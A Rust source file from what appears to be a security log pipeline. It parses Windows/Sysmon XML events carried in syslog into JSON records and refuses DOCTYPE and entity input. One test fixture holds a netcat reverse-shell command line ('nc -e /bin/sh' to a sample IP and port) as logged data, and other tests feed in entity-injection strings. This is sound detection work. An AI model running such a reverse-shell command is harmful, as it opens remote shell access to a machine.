//! A Windows event as the XML that Windows renders (`<Event xmlns=…><System>…`): Sysmon for Linux writes it to syslog,
//! and collectors forward it. It becomes the same tree as its JSON forms (element with `#attributes` and `#text`).
//!
//! Schema: Microsoft, "Windows Event Log", Event schema. A document type and entities of its own are refused.

use khien_base::Record;
use quick_xml::escape::resolve_predefined_entity;
use quick_xml::events::{BytesStart, Event};
use quick_xml::{Reader, XmlVersion};
use serde_json::{Map, Value};

use crate::flatten;

/// Deepest nesting of elements; events have four.
const DEPTH: usize = 32;
/// Most elements of one event.
const ELEMENTS: usize = 4096;

/// The record of an event that stands whole in the message of another format; `raw` is the line around it. `None` when
/// the message is something else, or broken: then it is text.
pub(crate) fn carried(message: &str, raw: &str) -> Option<Record> {
    let message = message.trim();
    if !message.starts_with("<Event") || !message.ends_with("</Event>") {
        return None;
    }
    let event = read(message)?;
    event.get("System")?.as_object()?;
    Some(flatten::nested(&event, raw.to_owned()))
}

/// An element that is being read.
struct Open {
    name: String,
    inside: Map<String, Value>,
    text: String,
}

impl Open {
    fn new(element: &BytesStart<'_>) -> Option<Self> {
        let mut inside = Map::new();
        let mut attributes = Map::new();
        for attribute in element.attributes() {
            let attribute = attribute.ok()?;
            let value = attribute.normalized_value(XmlVersion::Implicit1_0).ok()?;
            attributes.insert(attribute.key.as_ref().to_owned(), Value::from(value.as_ref()));
        }
        attributes.retain(|name, _| name != "xmlns" && !name.starts_with("xmlns:"));
        if !attributes.is_empty() {
            inside.insert("#attributes".into(), Value::Object(attributes));
        }
        Some(Self { name: element.local_name().as_ref().to_owned(), inside, text: String::new() })
    }

    /// Adds an element that ended; a second one of the same name makes a list.
    fn add(&mut self, inner: Self) {
        let (name, value) = inner.value();
        match self.inside.get_mut(&name) {
            None => drop(self.inside.insert(name, value)),
            Some(Value::Array(before)) => before.push(value),
            Some(before) => *before = Value::Array(vec![before.take(), value]),
        }
    }

    fn value(mut self) -> (String, Value) {
        if self.inside.is_empty() {
            let value = if self.text.is_empty() { Value::Null } else { Value::from(self.text) };
            return (self.name, value);
        }
        // Blanks between elements are layout.
        if !self.text.trim().is_empty() {
            self.inside.insert("#text".into(), Value::from(self.text));
        }
        (self.name, Value::Object(self.inside))
    }
}

/// What stands in the root element.
fn read(xml: &str) -> Option<Map<String, Value>> {
    let mut reader = Reader::from_str(xml);
    let mut open: Vec<Open> = Vec::new();
    let mut elements = 0;
    loop {
        let ended = match reader.read_event().ok()? {
            Event::Start(element) => {
                elements += 1;
                if open.len() >= DEPTH || elements > ELEMENTS {
                    return None;
                }
                open.push(Open::new(&element)?);
                None
            }
            Event::Empty(element) => {
                elements += 1;
                if elements > ELEMENTS {
                    return None;
                }
                Some(Open::new(&element)?)
            }
            Event::End(_) => Some(open.pop()?),
            Event::Text(text) => {
                open.last_mut()?.text.push_str(&text.xml10_content());
                None
            }
            Event::CData(text) => {
                open.last_mut()?.text.push_str(&text.xml10_content());
                None
            }
            Event::GeneralRef(entity) => {
                let text = &mut open.last_mut()?.text;
                match entity.resolve_char_ref().ok()? {
                    Some(c) => text.push(c),
                    None => text.push_str(resolve_predefined_entity(&entity.xml10_content())?),
                }
                None
            }
            Event::DocType(_) | Event::Eof => return None,
            Event::Comment(_) | Event::Decl(_) | Event::PI(_) => None,
        };
        if let Some(ended) = ended {
            match open.last_mut() {
                Some(outer) => outer.add(ended),
                None => return Some(ended.inside),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::{Format, decode_line};
    use chrono::DateTime;
    use serde_json::json;

    const SYSMON: &str = r#"<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><TimeCreated SystemTime="2026-06-10T01:00:00.500000000Z"/><EventRecordID>7</EventRecordID><Correlation/><Execution ProcessID="900" ThreadID="900"/><Channel>Linux-Sysmon/Operational</Channel><Computer>may1</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-06-10 01:00:00.400</Data><Data Name="Image">/usr/bin/nc</Data><Data Name="CommandLine">nc -e &quot;/bin/sh&quot; 198.51.100.9 &#52;444</Data><Data Name="User">root</Data><Data Name="ParentImage">/usr/bin/bash</Data></EventData></Event>"#;

    #[test]
    fn sysmon_for_linux_writes_events_to_syslog() {
        let received = DateTime::from_timestamp(1_781_200_000, 0).unwrap();
        for line in [format!("<30>Jun 10 08:00:00 may1 sysmon: {SYSMON}"), SYSMON.to_owned()] {
            let record = decode_line(line.as_bytes(), Format::Auto, received, 1).unwrap();
            let log = (record.log.product.as_deref(), record.log.service.as_deref(), record.log.category.as_deref());
            assert_eq!(log, (Some("linux"), Some("sysmon"), Some("process_creation")));
            assert_eq!(record.fields["CommandLine"], "nc -e \"/bin/sh\" 198.51.100.9 4444");
            assert_eq!((&record.fields["EventID"], &record.fields["Computer"]), (&json!(1), &json!("may1")));
            assert_eq!(record.hot.process.as_deref(), Some("/usr/bin/nc"));
            assert_eq!(record.time.unwrap().to_rfc3339(), "2026-06-10T01:00:00.500+00:00");
            assert_eq!(record.raw, line);
        }
    }

    #[test]
    fn what_is_broken_or_brings_entities_stays_text() {
        let deep = format!("<Event>{}{}</Event>", "<a>".repeat(40), "</a>".repeat(40));
        for xml in [
            "<Event><System></Event>",
            "<Event><System><EventID>&lol;</EventID></System></Event>",
            "<Event><!DOCTYPE x [<!ENTITY lol \"x\">]><System/></Event>",
            "<Event>no system</Event>",
            &deep,
        ] {
            let record = decode_line(xml.as_bytes(), Format::Auto, DateTime::UNIX_EPOCH, 1).unwrap();
            assert_eq!(record.fields["message"], xml);
            assert_eq!(record.log, khien_base::LogSource::default());
        }
    }
}
